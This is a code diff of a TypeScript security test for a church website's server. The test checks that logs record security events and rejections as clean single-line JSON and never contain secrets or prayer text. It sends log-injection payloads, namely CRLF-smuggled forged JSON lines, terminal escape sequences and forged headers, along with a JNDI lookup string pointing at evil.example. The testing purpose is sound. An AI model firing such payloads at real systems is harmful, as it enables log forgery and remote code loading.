@@ -1,8 +1,8 @@
 import { expect } from 'vitest';
 import { ADMINISTRATOR } from '../../src/server/testing/server-process.ts';
 import { defineCase } from '../support/define-case.ts';
-import { many } from '../support/measures.ts';
-import { raw } from '../support/raw-http.ts';
+import { runConcurrently } from '../support/measures.ts';
+import { sendRaw } from '../support/raw-http.ts';
 import type { Site } from '../support/server-under-test.ts';
 
 const { email, password } = ADMINISTRATOR;
@@ -12,10 +12,10 @@ const FIRST = 'nine books upon the shelf';
 const FORGED = '{"level":"info","event":"signed in","user":1,"msg":"forged"}';
 const ESCAPES = '\u001b[2J\u001b]0;owned\u0007';
 const PRAYER = 'for a grief that nobody else may know of';
-/** Written into every field that might come into a line. */
-const NASTY = `Anna\r\n${FORGED}\n${ESCAPES}`;
+/** Sent in every field that a log line could contain. */
+const MALICIOUS_NAME = `Anna\r\n${FORGED}\n${ESCAPES}`;
 
-/** What must be found in the log, and what of each line says who, from where, and what about. */
+/** The events that the log must contain, with the fields that identify client, account and subject. */
 const EVENTS: Readonly<Record<string, readonly string[]>> = {
   started: ['port'],
   'sign-in code sent': ['ip', 'user'],
@@ -34,8 +34,8 @@ const EVENTS: Readonly<Record<string, readonly string[]>> = {
   refused: ['problem'],
   stopping: ['reason'],
 };
-/** Refusals that must be found among the lines, each with who and where. */
-const REFUSALS = [
+/** The problem codes that must be in the log, each with address, method and path. */
+const PROBLEM_CODES = [
   'NO_SESSION',
   'SIGN_IN_REFUSED',
   'CODE_REFUSED',
@@ -48,18 +48,18 @@ const REFUSALS = [
 defineCase(
   {
     id: 'T57',
-    title: 'What is written down, and what never',
-    pass: `every line is one JSON object with its time in UTC, whatever is sent as name, browser, address or body; each of ${Object.keys(EVENTS).length} events and ${REFUSALS.length} kinds of refusal is found with who and where; no password, code, token, challenge or word of a prayer is`,
+    title: 'the log contains all security events and no secrets',
+    pass: `every line is one JSON object with a UTC time, whatever a client sends as name, user agent, URL or body; each of ${Object.keys(EVENTS).length} events and ${PROBLEM_CODES.length} kinds of rejection is logged with its origin; no password, code, token, challenge or text of a prayer request is`,
     isQuick: true,
     quickEngines: ['sqlite'],
   },
   async ({ startSite, report }) => {
     const site = await startSite();
-    const secrets = await everything(site);
+    const secrets = await triggerAllEvents(site);
     site.server.kill('SIGTERM');
     await site.server.exited;
 
-    // beside the lines there is only what the start tells its person, which is set in
+    // the other lines are the indented startup message
     const lines = site.server
       .output()
       .split('\n')
@@ -70,14 +70,14 @@ defineCase(
       expect([entry, typeof entry.event]).toEqual([entry, 'string']);
     }
     for (const [event, fields] of Object.entries(EVENTS)) {
-      const [found] = entries.filter((entry) => entry.event === event);
-      expect([event, fields.filter((field) => found?.[field] === undefined)]).toEqual([event, []]);
+      const [entry] = entries.filter((entry) => entry.event === event);
+      expect([event, fields.filter((field) => entry?.[field] === undefined)]).toEqual([event, []]);
     }
-    const refusals = entries.filter(({ event }) => event === 'refused');
-    for (const problem of REFUSALS) {
-      const found = refusals.filter((entry) => entry.problem === problem);
-      expect([problem, found.length > 0]).toEqual([problem, true]);
-      for (const { ip, method, path } of found)
+    const rejections = entries.filter(({ event }) => event === 'refused');
+    for (const problem of PROBLEM_CODES) {
+      const matching = rejections.filter((entry) => entry.problem === problem);
+      expect([problem, matching.length > 0]).toEqual([problem, true]);
+      for (const { ip, method, path } of matching)
         expect([
           problem,
           path,
@@ -85,19 +85,19 @@ defineCase(
           typeof method,
         ]).toEqual([problem, path, true, 'string']);
     }
-    const said = lines.join('\n');
-    expect(secrets.filter((secret) => said.includes(secret))).toEqual([]);
+    const log = lines.join('\n');
+    expect(secrets.filter((secret) => log.includes(secret))).toEqual([]);
     expect(entries.filter(({ msg }) => msg === 'forged')).toEqual([]);
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
-    expect(/[\x00-\x09\x0b-\x1f\x7f]/.test(said)).toBe(false);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: the log must contain none
+    expect(/[\x00-\x09\x0b-\x1f\x7f]/.test(log)).toBe(false);
     report(
-      `${entries.length} of ${lines.length} lines parse; ${Object.keys(EVENTS).length} events and ${REFUSALS.length} refusals found; 0 of ${secrets.length} secrets`,
+      `${entries.length} of ${lines.length} lines parse; ${Object.keys(EVENTS).length} events and ${PROBLEM_CODES.length} kinds of rejection logged; 0 of ${secrets.length} secrets`,
     );
   },
 );
 
-/** Makes each event happen, with something nasty wherever something can be written; responses all that must stay secret. */
-async function everything(site: Site): Promise<string[]> {
+/** Triggers each event, with malicious text in every field. @returns all secrets that were sent or received. */
+async function triggerAllEvents(site: Site): Promise<string[]> {
   const secrets = [password, WRONG, NEW, FIRST, PRAYER];
   const signIn = async (account = ADMINISTRATOR) => {
     const { userId, otp } = await site.challenge(account);
@@ -108,7 +108,7 @@ async function everything(site: Site): Promise<string[]> {
     return String(json?.token);
   };
   const token = await signIn();
-  const me = { name: NASTY, email };
+  const me = { name: MALICIOUS_NAME, email };
   await site.call('/api/auth/profile', { method: 'PUT', token, body: me });
   await site.call('/api/auth/profile', {
     method: 'PUT',
@@ -121,7 +121,7 @@ async function everything(site: Site): Promise<string[]> {
     body: { ...me, password: NEW, currentPassword: password },
   });
 
-  const deacon = { name: NASTY, email: 'deacon@stthomas.example' };
+  const deacon = { name: MALICIOUS_NAME, email: 'deacon@stthomas.example' };
   const { json: created } = await site.call('/api/users', { token, body: { ...deacon, password: FIRST } });
   const path = `/api/users/${created?.id}`;
   await site.call(path, {
@@ -134,33 +134,33 @@ async function everything(site: Site): Promise<string[]> {
   const own = await site.call('/api/auth/me', { token });
   await site.call(`/api/users/${own.json?.id}`, { method: 'DELETE', token });
 
-  await many(8, 1, () =>
+  await runConcurrently(8, 1, () =>
     site.call('/api/auth/login', { body: { email, password: WRONG }, from: '127.0.7.2' }),
   );
-  await many(7, 1, (n) =>
+  await runConcurrently(7, 1, (n) =>
     site.call('/api/prayer-request/submit', {
-      body: { prayerType: 'Blessings', name: NASTY, details: `${PRAYER} ${n}` },
+      body: { prayerType: 'Blessings', name: MALICIOUS_NAME, details: `${PRAYER} ${n}` },
     }),
   );
   await site.call('/api/events', { token, body: { title: 1, details: PRAYER } });
   await site.call('/api/events', { body: `{"token":"${token}"` });
   await site.call(`/api/users?token=${token}`);
-  await strange(site, token);
+  await sendMaliciousRequests(site, token);
   await site.call('/api/auth/logout', { method: 'POST', token });
   return secrets;
 }
 
-/** Lines of their own, control characters and JSON in the address, the browser's name and headers. */
-async function strange(site: Site, token: string): Promise<void> {
+/** Sends line breaks, control characters and JSON in URLs, user agents and headers. */
+async function sendMaliciousRequests(site: Site, token: string): Promise<void> {
   const { host } = new URL(site.server.address);
-  const addresses = [
+  const urls = [
     '/api/%0d%0a%7B%22event%22%3A%22forged%22%7D',
     '/api/users/%1b%5b2J',
     `/api/events/"},${FORGED}`,
     '/%0a%0a',
     '/api/users/\u009b',
   ];
-  const agents = [
+  const userAgents = [
     ESCAPES,
     `x"}\n${FORGED}`,
     `${FORGED}`,
@@ -168,13 +168,13 @@ async function strange(site: Site, token: string): Promise<void> {
     '%0d%0a',
     'jndi:ldap://evil.example/a',
   ];
-  // an address that is no text, for whatever looks for a page
-  await raw(site.server.address, `GET /%ff%fe HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
-  for (const address of addresses)
-    for (const agent of agents)
-      for (const signed of ['', `Authorization: Bearer ${token}\r\n`])
-        await raw(
+  // a path that is not valid UTF-8
+  await sendRaw(site.server.address, `GET /%ff%fe HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+  for (const url of urls)
+    for (const userAgent of userAgents)
+      for (const authorization of ['', `Authorization: Bearer ${token}\r\n`])
+        await sendRaw(
           site.server.address,
-          `DELETE ${address.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${agent}\r\nX-Forwarded-For: ${FORGED}\r\n${signed}Connection: close\r\n\r\n`,
+          `DELETE ${url.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${userAgent}\r\nX-Forwarded-For: ${FORGED}\r\n${authorization}Connection: close\r\n\r\n`,
         );
 }
